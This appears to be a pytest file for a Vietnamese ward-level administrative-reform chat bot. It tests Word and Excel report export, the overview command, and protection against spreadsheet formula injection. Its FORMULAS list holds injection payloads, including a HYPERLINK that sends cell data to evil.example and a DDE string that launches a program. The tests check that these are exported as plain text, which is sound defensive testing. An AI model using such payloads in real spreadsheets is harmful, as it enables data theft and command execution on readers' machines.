"""/xuatbaocao and `cchc-bot report`: the Word report and the Excel tables hold what was entered."""

from __future__ import annotations

import io
from datetime import datetime
from pathlib import Path

from docx import Document
from openpyxl import load_workbook

from bot.cli import main
from bot.report_cli import report_files
from bot.settings import Settings
from domain.model import Role
from tests.auxil.constants import LEADER, OFFICIAL_TP, VN
from tests.auxil.harness import BotHarness


def docx_text(content: bytes) -> str:
    document = Document(io.BytesIO(content))
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        for row in table.rows:
            parts.append(" | ".join(cell.text for cell in row.cells))
    return "\n".join(parts)


async def enter_work(bot: BotHarness) -> None:
    await bot.make_staff(OFFICIAL_TP, "TP")
    await bot.make_staff(LEADER, "VP", Role.LEADER)
    bot.clock.set(datetime(2025, 9, 15, 9, 0, tzinfo=VN))
    await bot.say(OFFICIAL_TP, "/solieu 1.3a 2025-Q3 118/120")
    await bot.click(OFFICIAL_TP, "💾 Lưu")
    # Named: without a period it would settle the overdue quý II first (O4).
    await bot.say(
        OFFICIAL_TP, "/baocao 2.3a 2025-Q3 xong Đã công khai 54 thủ tục tại bộ phận một cửa"
    )
    bot.clock.set(datetime(2025, 10, 6, 9, 0, tzinfo=VN))


async def test_the_exported_word_and_excel_contain_the_entered_figures(bot: BotHarness) -> None:
    await enter_work(bot)
    reply = await bot.say(LEADER, "/xuatbaocao quy 2025-Q3")
    assert "Đây là báo cáo" in reply
    documents = [m for m in bot.replies(LEADER) if "document" in m]
    names = [m["document"]["file_name"] for m in documents]
    assert names == ["bao-cao-cchc-2025-Q3.docx", "bao-cao-cchc-2025-Q3.xlsx"]
    word = bot.emulator.file_bytes(documents[0]["document"]["file_id"])
    text = docx_text(word)
    for expected in (
        "ỦY BAN NHÂN DÂN",
        "PHƯỜNG PHÚ LA",
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "Số: .../BC-UBND",
        "Phú La, ngày ... tháng ... năm 2025",
        "BÁO CÁO",
        "Kết quả thực hiện công tác cải cách hành chính quý III năm 2025",
        "3. Cải cách thủ tục hành chính",
        "1.3a | Hồ sơ TTHC trả kết quả đúng hạn, trước hạn | 100% | 98,33% (118/120) quý III/2025",
        "2.3a Rà soát, đơn giản hóa và công khai TTHC (TP, quý III/2025, hạn 30/09/2025)",
        "Đã công khai 54 thủ tục",
        "Quá hạn:",
        "TM. ỦY BAN NHÂN DÂN",
    ):
        assert expected in text, expected
    # Tasks of the quarter nobody reported on are overdue in the report, in their area.
    area_3 = text.split("3. Cải cách thủ tục hành chính")[1].split("4. Cải cách tổ chức")[0]
    overdue = area_3.split("Quá hạn:")[1]
    assert "- 2.3b Cơ chế một cửa" in overdue and "2.3a" not in overdue

    excel = bot.emulator.file_bytes(documents[1]["document"]["file_id"])
    book = load_workbook(io.BytesIO(excel))
    assert book.sheetnames == [
        "Chỉ tiêu",
        "Nhiệm vụ",
        "Nhiệm vụ thường xuyên",
        "Phản ánh và khảo sát",
        "Minh chứng",  # the annex (L3)
    ]
    targets = {row[1]: row for row in book["Chỉ tiêu"].iter_rows(min_row=2, values_only=True)}
    assert targets["1.3a"][5:8] == (98.33, 118, 120)
    assert targets["1.3a"][9] == "đúng tiến độ"
    assert targets["1.3b"][8] == "chưa có số liệu"
    tasks = {(r[1], r[4]): r for r in book["Nhiệm vụ"].iter_rows(min_row=2, values_only=True)}
    done = tasks[("2.3a", "quý III/2025")]
    assert done[6] == "hoàn thành" and done[8] == "có" and "54 thủ tục" in done[9]
    assert tasks[("2.3b", "quý III/2025")][6] == "quá hạn"


async def test_the_report_by_buttons_and_the_bad_periods(bot: BotHarness) -> None:
    await enter_work(bot)
    await bot.say(LEADER, "/xuatbaocao")
    assert "Quý 3/2025" in bot.buttons(LEADER) and "Năm 2025" in bot.buttons(LEADER)
    await bot.click(LEADER, "Năm 2025")
    assert bot.replies(LEADER)[-3]["document"]["file_name"] == "bao-cao-cchc-2025.docx"
    assert "không phải là quý" in await bot.say(LEADER, "/xuatbaocao quy 2025-Q7")
    assert "nằm ngoài thời gian của kế hoạch (giai đoạn 2021-2025)" in await bot.say(
        LEADER, "/xuatbaocao nam 2019"
    )
    bot.clock.set(datetime(2025, 9, 30, 17, 0, tzinfo=VN))
    assert "chưa bắt đầu" in await bot.say(LEADER, "/xuatbaocao quy 2025-Q4")


async def test_the_command_line_writes_the_same_report(
    bot: BotHarness, settings: Settings, tmp_path: Path, capsys
) -> None:
    await enter_work(bot)
    paths = await report_files(settings, "2025-Q3", None, tmp_path / "out")
    assert [p.name for p in paths] == ["bao-cao-cchc-2025-Q3.docx", "bao-cao-cchc-2025-Q3.xlsx"]
    assert "98,33% (118/120)" in docx_text(paths[0].read_bytes())
    paths = await report_files(settings, None, "2025", tmp_path / "out")
    assert paths[1].name == "bao-cao-cchc-2025.xlsx"
    assert main(["report", "--quarter", "2025-Q9", "--out", str(tmp_path)]) == 2
    assert "2025-Q9" in capsys.readouterr().err


async def test_overview_shows_departments_overdue_work_and_targets_at_risk(
    bot: BotHarness,
) -> None:
    await enter_work(bot)
    await bot.say(OFFICIAL_TP, "/solieu 1.3b 2025-Q3 20%")
    await bot.click(OFFICIAL_TP, "💾 Lưu")
    reply = await bot.say(LEADER, "/tongquan")
    assert "Nhiệm vụ hoàn thành đúng hạn, năm 2025" in reply
    assert "• Công chức Tư pháp: 1/" in reply
    assert "Quá hạn (" in reply and "2.3b" in reply
    assert "Chỉ tiêu có nguy cơ không đạt (1)" in reply and "1.3b" in reply
    photo = bot.replies(LEADER)[-1]
    assert (
        "photo" in photo and "Tỷ lệ nhiệm vụ hoàn thành đúng hạn theo bộ phận" in photo["caption"]
    )


FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Xem minh chứng")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


async def test_M5_a_note_that_looks_like_a_formula_is_exported_as_text(bot: BotHarness) -> None:
    """Formula injection: what an official types reaches the leaders' Excel as plain text."""
    await bot.make_staff(OFFICIAL_TP, "TP")
    await bot.make_staff(LEADER, "VP", Role.LEADER)
    await bot.say(OFFICIAL_TP, f"/baocao 2.3a xong {FORMULAS[0]}")
    await bot.say(LEADER, "/xuatbaocao quy 2025-Q2")
    [xlsx] = [
        m for m in bot.replies(LEADER) if "xlsx" in m.get("document", {}).get("file_name", "")
    ]
    book = load_workbook(io.BytesIO(bot.emulator.file_bytes(xlsx["document"]["file_id"])))
    [cell] = [c for row in book["Nhiệm vụ"].iter_rows() for c in row if c.value == FORMULAS[0]]
    assert cell.data_type == "s" and cell.quotePrefix


def test_M5_every_formula_start_is_written_as_text() -> None:
    from openpyxl import Workbook

    from services.reports.excel import _as_text

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([*FORMULAS, "bình thường", 42])
    _as_text(sheet)
    buffer = io.BytesIO()
    book.save(buffer)
    [row] = load_workbook(buffer)["Sheet"].iter_rows()
    assert [c.value for c in row] == [*FORMULAS, "bình thường", 42]
    assert [c.data_type for c in row] == ["s"] * (len(FORMULAS) + 1) + ["n"]
    assert [bool(c.quotePrefix) for c in row] == [True] * len(FORMULAS) + [False, False]
